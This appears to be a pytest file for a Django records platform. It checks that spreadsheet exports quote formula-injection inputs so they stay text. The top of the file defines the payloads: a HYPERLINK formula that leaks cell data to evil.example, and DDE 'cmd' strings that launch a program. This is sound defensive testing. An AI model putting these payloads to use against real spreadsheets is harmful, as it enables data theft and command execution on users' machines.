"""Formula payloads (=HYPERLINK(…), +cmd|…) never become live formulas in a file the platform writes for
people: the error report, the template, the records export and the assessment (issue 12 §6, OWASP)."""

import io
from types import SimpleNamespace

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from openpyxl import load_workbook

from zhengwu.credit.formats import report
from zhengwu.credit.models import ImportBatch
from zhengwu.credit.services import imports as services
from zhengwu.credit.standard import LICENSE
from zhengwu.credit.tests.factories import license_row
from zhengwu.credit.tests.test_hostile_files import csv_bytes
from zhengwu.org.roles import Role

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_error_report_quotes_formula_payloads_and_keeps_them_text(units):
    bad = license_row(XK_XH="LIC-2", XK_NR=HYPERLINK, XK_XDR=CMD, XK_FR=AT, BZ=MINUS, XK_SXQ="not a date")
    content = csv_bytes([license_row(), bad])
    batch = services.import_create(
        unit=units["QFGJ"], kind="license", upload=ContentFile(content, name="f.csv"), check_role=False
    )
    services.import_run(batch)
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.DONE and batch.error_report
    with default_storage.open(batch.error_report.name) as fh:
        ws = load_workbook(io.BytesIO(fh.read())).active
    header = [c.value for c in ws[1]]
    row = {header[i]: c for i, c in enumerate(ws[2])}
    assert row["行号"].value == 2 and row["行号"].data_type == "n"
    for code, payload in (("XK_NR", HYPERLINK), ("XK_XDR", CMD), ("XK_FR", AT), ("BZ", MINUS)):
        assert row[code].value == "'" + payload and row[code].data_type == "s", code


def test_the_records_export_writes_payloads_as_quoted_text():
    rows = [license_row(XK_NR=HYPERLINK, XK_XDR=CMD, XK_FR="-5")]
    ws = load_workbook(io.BytesIO(report.export_xlsx(LICENSE, rows))).active
    cells = {ws.cell(1, i).value: ws.cell(2, i) for i in range(1, ws.max_column + 1)}
    name = {f.code: f.name for f in LICENSE.fields}
    assert cells[name["XK_NR"]].value == "'" + HYPERLINK and cells[name["XK_NR"]].data_type == "s"
    assert cells[name["XK_XDR"]].value == "'" + CMD
    assert cells[name["XK_FR"]].value == "-5"  # a number-like text is not a formula: left as it is


def test_the_template_quotes_a_street_name_from_the_database():
    wb = load_workbook(io.BytesIO(report.template(LICENSE, streets=[HYPERLINK, "桂园街道"])))
    lists = wb["选项"]
    values = [c.value for col in lists.iter_cols() for c in col if c.value]
    assert "'" + HYPERLINK in values and "桂园街道" in values and HYPERLINK not in values


@pytest.mark.django_db
def test_the_assessment_export_quotes_unit_names_and_keeps_numbers_numbers(
    client, units, make_user, monkeypatch
):
    from zhengwu.credit.views import assessment as view

    row = SimpleNamespace(rank=1, unit_name=HYPERLINK, score=-3.5, records=12, validation_reject_share=0.1,
                          review_reject_share=0.0, on_time_share=0.5, avg_delay=-1.5, avg_workdays=4.0,
                          published_share=1.0, pushed_share=0.0, objections=0, objections_in_time_share=None,
                          objections_overdue=0)
    monkeypatch.setattr(view.sel, "assessment", lambda **kw: [row])
    client.force_login(make_user("QFGJ", Role.LEADER))
    ws = load_workbook(io.BytesIO(client.get("/credit/assessment.xlsx?period=2025").content)).active
    assert ws["B3"].value == "'" + HYPERLINK and ws["B3"].data_type == "s"
    assert (ws["C3"].value, ws["C3"].data_type) == (-3.5, "n")  # a negative score stays a number
    assert (ws["H3"].value, ws["H3"].data_type) == (-1.5, "n")
